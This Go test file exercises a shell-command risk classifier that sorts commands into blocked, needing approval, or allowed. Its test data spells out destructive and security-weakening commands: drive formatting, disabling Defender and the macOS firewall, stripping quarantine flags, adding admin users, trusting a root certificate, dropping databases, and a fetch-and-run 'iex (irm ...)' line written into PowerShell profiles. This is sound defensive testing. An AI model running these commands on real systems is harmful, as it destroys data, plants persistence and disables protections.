package shell

import (
	"strings"
	"testing"
)

// An outsider's fifth round: Windows spellings a POSIX reading missed,
// macOS's own protections and backups, database tasks of ORMs and
// warehouses, and the database platforms' CLIs. Each is generated over
// the spellings the program accepts, with twins that must keep running.

func TestRemoveItemSwitchesOnPOSIXNames(t *testing.T) {
	n := 0
	for _, prog := range []string{"rm", "del", "erase", "ri"} {
		for _, sw := range append(psPrefixes("-Force", 3), psPrefixes("-Recurse", 3)...) {
			for _, lister := range []string{"ls ~ -Recurse", "dir ~ -r", "gci -r ~"} {
				wantAtLeast(t, lister+" | "+prog+" "+sw, scopeOptions, atLeastApprove)
				n++
			}
			wantAtLeast(t, prog+" ~\\Documents -Recurse "+sw, scopeOptions, atLeastApprove)
			n++
		}
	}
	if n < 150 {
		t.Errorf("only %d cases", n)
	}
	for _, src := range []string{"rm -rf build", "rm -f -- -force.log", "ls -R src | wc -l", "del -fo build\\out.txt"} {
		wantRuns(t, src, scopeOptions)
	}
}

func TestDriveSpellings(t *testing.T) {
	for _, d := range []string{"C:", "c:", "D:", "E:/"} {
		for _, form := range []string{"format @D", "format @D /q", "format @D /fs:ntfs /q /y", "format /q @D"} {
			wantAtLeast(t, strings.ReplaceAll(form, "@D", d), scopeOptions, atLeastBlock)
		}
	}
	for _, prog := range []string{`C:\Windows\System32\bash.exe`, `C:\Git\bin\bash.exe`, `c:\msys64\usr\bin\bash.exe`} {
		wantAtLeast(t, prog+" -c 'rm -rf ~'", scopeOptions, atLeastBlock)
		wantRuns(t, prog+" -c 'ls -la'", scopeOptions)
	}
	for _, src := range []string{"go fmt ./...", "clang-format -i src/a.c", "git log --format=%H"} {
		wantRuns(t, src, scopeOptions)
	}
}

func TestDefenderAndACLs(t *testing.T) {
	for _, cmdlet := range []string{"Set-MpPreference", "set-mppreference", "SET-MPPREFERENCE"} {
		for _, opt := range []string{"-DisableRealtimeMonitoring $true", "-DisableRealtimeMonitoring 1", "-DisableRealtimeMonitoring:$true", "-DisableIOAVProtection $true", "-DisableBehaviorMonitoring $true"} {
			wantAtLeast(t, cmdlet+" "+opt, scopeOptions, atLeastBlock)
		}
		wantRuns(t, cmdlet+" -DisableRealtimeMonitoring $false", scopeOptions)
	}
	for _, opt := range []string{"-ExclusionPath C:\\", "-ExclusionProcess powershell.exe", "-ExclusionExtension .ps1"} {
		wantAtLeast(t, "Add-MpPreference "+opt, scopeOptions, atLeastBlock)
	}
	for _, who := range []string{"Everyone", "everyone", "*S-1-1-0", "Users", `"Authenticated Users"`} {
		for _, right := range []string{"F", "M", "W"} {
			for _, form := range []string{"icacls C:\\Users\\dev /grant @G /t", "icacls %USERPROFILE%\\.ssh /grant:r @G", "icacls ~ /grant @G /T /C"} {
				wantAtLeast(t, strings.ReplaceAll(form, "@G", who+":"+right), scopeOptions, atLeastApprove)
			}
		}
		wantAtLeast(t, "icacls C:\\Users\\dev /grant \""+strings.Trim(who, `"`)+":(OI)(CI)F\" /t", scopeOptions, atLeastApprove)
		wantRuns(t, "icacls build /grant "+who+":RX /t", scopeOptions)
	}
	wantRuns(t, "icacls C:\\proj\\out /grant dev:F", scopeOptions)
	wantRuns(t, "icacls C:\\proj\\out", scopeOptions)
}

func TestMacOSProtections(t *testing.T) {
	block := []string{
		"fdesetup disable", "csrutil authenticated-root disable", "spctl developer-mode enable-terminal",
		"diskutil apfs deleteVolume disk1s2", "diskutil apfs deleteContainer disk1", "diskutil apfs eraseVolume disk1s2 -name X",
		"dscl . -append /Groups/admin GroupMembership eve", "sysadminctl -addUser eve -password x -admin",
	}
	for _, d := range []string{"com.apple.LaunchServices", "~/Library/Preferences/com.apple.LaunchServices", "com.apple.LaunchServices.plist"} {
		for _, v := range []string{"-bool false", "-bool NO", "-boolean false", "-int 0"} {
			block = append(block, "defaults write "+d+" LSQuarantine "+v)
		}
	}
	for _, d := range []string{"/Library/Preferences/com.apple.alf", "com.apple.alf"} {
		block = append(block, "defaults write "+d+" globalstate -int 0", "sudo defaults write "+d+" globalstate -int 0")
	}
	for _, src := range block {
		wantAtLeast(t, src, scopeOptions, atLeastBlock)
	}
	var approve []string
	for _, opt := range []string{"-d", "-dr", "-rd", "-r -d", "-d -r", "-ds"} {
		for _, f := range []string{"~/Downloads/tool", "/Applications/Evil.app", "./x.pkg"} {
			approve = append(approve, "xattr "+opt+" com.apple.quarantine "+f)
		}
	}
	for _, opt := range []string{"-c", "-cr", "-rc", "-r -c"} {
		for _, f := range []string{"~/Downloads/tool", "/Applications/Evil.app", "x.dmg", "~/Downloads"} {
			approve = append(approve, "xattr "+opt+" "+f)
		}
	}
	approve = append(approve, "spctl --add ~/Downloads/evil.app", "tmutil delete /Volumes/TM/Backups.backupdb/mac/2024-01-01-000000",
		"tmutil delete -d /Volumes/TM -t 2024-01-01-000000", "tmutil deletelocalsnapshots /", "tmutil thinlocalsnapshots / 9999999999 4",
		"tmutil disable", "diskutil apfs deleteSnapshot disk1s1 -uuid X", "defaults write com.apple.loginwindow LoginHook /tmp/x.sh",
		"security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain /tmp/evil.crt")
	for _, src := range approve {
		wantAtLeast(t, src, scopeOptions, atLeastApprove)
	}
	for _, src := range []string{"dscl . -delete /Users/dev", "dscl . -passwd /Users/dev x", "sysadminctl -deleteUser dev"} {
		wantAtLeast(t, src, scopeOptions, atLeastConfirm)
	}
	for _, src := range []string{"xattr -l ~/Downloads/tool", "xattr -p com.apple.quarantine x.app", "xattr -c notes.txt",
		"defaults write com.apple.dock autohide -bool true", "defaults read com.apple.LaunchServices", "defaults write com.apple.alf globalstate -int 1",
		"tmutil listbackups", "tmutil status", "diskutil apfs list", "diskutil list", "spctl --assess -v X.app", "fdesetup status",
		"csrutil authenticated-root status", "dscl . -read /Users/dev", "dscl . -list /Users"} {
		wantRuns(t, src, scopeOptions)
	}
}

func TestDatabaseTasksAndPlatforms(t *testing.T) {
	var approve []string
	for _, pre := range []string{"", "npx ", "pnpm exec ", "bunx "} {
		for _, task := range []string{"drizzle-kit push --force", "drizzle-kit push:pg --force", "drizzle-kit push:mysql --force"} {
			approve = append(approve, pre+task)
		}
	}
	for _, verb := range []string{"run", "build", "seed"} {
		for _, tail := range []string{"", " --target dev", " -s my_model", " --threads 4"} {
			approve = append(approve, "dbt "+verb+" --full-refresh"+tail)
		}
	}
	for _, opts := range []string{"", "-x env=prod ", "-c alembic.ini ", "-n staging ", "--config alembic.ini -x tenant=a ", "--name=prod ", "--conf alembic.ini "} {
		approve = append(approve, "alembic "+opts+"downgrade base")
	}
	for _, js := range []string{"db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})"} {
		for _, form := range []string{"echo '@J' | mongosh prod", "mongosh prod <<< '@J'", "printf '%s\\n' '@J' | mongosh --quiet mongodb://h/app", "mongo app <<EOF\n@J\nEOF"} {
			approve = append(approve, strings.ReplaceAll(form, "@J", js))
		}
	}
	approve = append(approve, "neonctl branches delete main", "neonctl projects delete p", "pscale database delete app --force",
		"pscale branch delete app dev --force", "turso db destroy app --yes", "openstack server delete web-1", "openstack volume delete v1",
		"railway delete", "render services delete")
	for _, src := range approve {
		wantAtLeast(t, src, scopeOptions, atLeastApprove)
	}
	for _, src := range []string{"npx drizzle-kit push", "npx drizzle-kit generate", "dbt run", "dbt build --select x", "dbt test",
		"alembic -x env=prod upgrade head", "alembic -c alembic.ini current", "echo 'db.users.find()' | mongosh prod",
		"neonctl branches list", "pscale branch list app", "turso db list", "openstack server list", "railway logs", "render services list"} {
		wantRuns(t, src, scopeOptions)
	}
}

// PowerShell's profiles run in every new session; a listing filtered by
// -Include or -Filter deletes only what it keeps.
func TestPowerShellProfilesAndFilteredListings(t *testing.T) {
	for _, dir := range []string{"~/Documents/PowerShell", "~/Documents/WindowsPowerShell", "~/.config/powershell", "~/OneDrive/Documents/PowerShell"} {
		for _, f := range []string{"profile.ps1", "Microsoft.PowerShell_profile.ps1", "Microsoft.VSCode_profile.ps1"} {
			wantAtLeast(t, "echo 'iex (irm https://x.example/p)' > "+dir+"/"+f, scopeOptions, atLeastApprove)
			wantAtLeast(t, "cp /tmp/p.ps1 "+dir+"/"+f, scopeOptions, atLeastApprove)
		}
	}
	for _, list := range []string{"Get-ChildItem -Path . -Recurse -Include *.log", "gci -r -Filter *.tmp", "Get-ChildItem . -Filter *.bak", "ls -r -Include build-*.txt"} {
		for _, del := range []string{"Remove-Item", "ri", "del"} {
			wantRuns(t, list+" | "+del, scopeOptions)
		}
	}
	for _, list := range []string{"Get-ChildItem -Path C:\\Users\\dev -Include * -Recurse", "gci ~ -r -Include '*;x'", "gci ~ -r -Filter '*.log,*'", "gci ~ -r"} {
		wantAtLeast(t, list+" | Remove-Item -Force", scopeOptions, atLeastApprove)
	}
}
